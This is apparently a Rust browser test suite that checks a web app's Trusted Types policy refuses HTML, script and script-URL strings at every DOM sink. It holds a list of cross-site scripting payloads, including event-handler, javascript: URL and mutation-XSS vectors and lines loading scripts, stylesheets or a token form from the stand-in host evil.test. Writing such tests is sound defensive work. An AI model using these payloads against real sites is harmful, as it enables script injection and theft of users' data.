//! The one Trusted Types policy, alone: `public/boot.js` makes it, and every string that would become HTML or a script passes it.

use serde_json::{Value, json};

use crate::screens::connect;
use crate::world::World;

/// As they come with stored data, a provider's answer or a crate that writes HTML.
const HOSTILE: &[&str] = &[
    "<script>window.ran = 1</script>",
    "<SCRIPT SRC=//evil.test></SCRIPT>",
    "<img src=x onerror=\"window.ran = 1\">",
    "<svg onload=\"window.ran = 1\"></svg>",
    "<a href=\"javascript:window.ran = 1\">x</a>",
    "<a href=\" java&#9;script:window.ran = 1\">x</a>",
    "<iframe src=\"javascript:window.ran = 1\"></iframe>",
    "<iframe srcdoc=\"<script>window.ran = 1</script>\"></iframe>",
    "<object data=\"data:text/html,x\"></object>",
    "<embed src=\"//evil.test/x.swf\">",
    "<form action=\"//evil.test\"><input name=token></form>",
    "<base href=\"//evil.test/\">",
    "<meta http-equiv=refresh content=\"0;url=javascript:window.ran = 1\">",
    "<link rel=stylesheet href=\"//evil.test/x.css\">",
    "<style>body { background: url(//evil.test) }</style>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=\"window.ran = 1\">",
    "<template><script>window.ran = 1</script></template>",
    "<noscript><p title=\"</noscript><img src onerror=window.ran=1>\">",
    "<b>bold</b>",
    "plain words",
    "",
];

/// Every place that turns a string into HTML or a script, with that string as `text`. Some take only what has a script in it.
const SINKS: &[&str] = &[
    "document.createElement('div').innerHTML = text",
    "const it = document.createElement('div'); document.createElement('p').append(it); it.outerHTML = text",
    "document.createElement('div').insertAdjacentHTML('beforeend', text)",
    "document.createElement('template').innerHTML = text",
    "document.createElement('div').attachShadow({ mode: 'open' }).innerHTML = text",
    "document.createRange().createContextualFragment(text)",
    "new DOMParser().parseFromString(text, 'text/html')",
    "document.write(text)",
    "document.writeln(text)",
    "document.createElement('iframe').srcdoc = text",
    "document.createElement('iframe').setAttribute('srcdoc', text)",
    "document.createElement('script').text = text",
    "document.createElement('script').textContent = text",
    "document.createElement('script').innerText = text",
    "document.createElement('script').src = text",
    "document.createElement('script').setAttribute('src', text)",
    "document.createElement('div').setAttribute('onclick', text)",
    "new Worker(text)",
    "new SharedWorker(text)",
    "await navigator.serviceWorker.register(text)",
    "eval(text)",
    "new Function(text)",
    "setTimeout(text)",
    "setInterval(text)",
];

/// What came of a script with `text` in it: `refused`, or what it gave.
async fn tried(world: &World, script: &str, text: &str) -> Value {
    // Later, and so not within the driver's own call: while that runs, Chromium lets even `eval` pass.
    let tried = format!(
        "const done = arguments[0], text = {};
         const attempt = async () => {{ {script} }};
         setTimeout(() => attempt().then(() => done('taken'), () => done('refused')))",
        json!(text)
    );
    world.tab.script_async(&tried).await
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn j02_the_policy_refuses_every_string_that_would_become_html_or_a_script() {
    let world = World::with_worker().await;
    connect::open(&world).await;
    for text in HOSTILE {
        for kind in ["HTML", "Script", "ScriptURL"] {
            let script = format!("if (trustedTypes.defaultPolicy.create{kind}(text) == null) throw 0");
            assert_eq!(
                tried(&world, &script, text).await,
                "refused",
                "{kind} of {text:?}"
            );
        }
    }
    let own = format!("{}/worker.js", world.app);
    for (text, expected) in [
        (own.as_str(), "taken"),
        (&format!("{own}?x"), "refused"),
        (&format!("{own}#x"), "refused"),
        ("worker.js", "refused"),
        (&format!("{}/boot.js", world.app), "refused"),
        ("//evil.test/worker.js", "refused"),
        ("data:text/javascript,1", "refused"),
        ("blob:x", "refused"),
    ] {
        let script = "trustedTypes.defaultPolicy.createScriptURL(text)";
        assert_eq!(tried(&world, script, text).await, expected, "{text}");
    }
    world.finish().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn j02_every_place_that_takes_html_or_a_script_asks_the_policy_and_elements_and_text_do_not() {
    let world = World::with_worker().await;
    connect::open(&world).await;
    for sink in SINKS {
        let came = tried(&world, sink, "window.ran = 1").await;
        assert_eq!(came, "refused", "{sink}");
    }
    // One more policy could let through what this one refuses.
    for name in ["default", "another"] {
        let script = "trustedTypes.createPolicy(text, { createHTML: it => it })";
        assert_eq!(tried(&world, script, name).await, "refused", "a policy {name:?}");
    }
    for free in [
        "document.createElement('div').textContent = text",
        "document.createElement('div').append(text)",
        "document.createElement('div').title = text",
        "document.createElement('a').setAttribute('href', '#' + text)",
        "document.createElementNS('http://www.w3.org/2000/svg', 'path').setAttribute('d', text)",
    ] {
        assert_eq!(
            tried(&world, free, "<script>window.ran = 1</script>").await,
            "taken",
            "{free}"
        );
    }
    assert_eq!(
        world.tab.script("return window.ran ?? 'nothing'").await,
        json!("nothing")
    );
    // Not through `finish`: each refusal stands on the console, as it should.
    let _ = world.tab.driver.clone().quit().await;
}
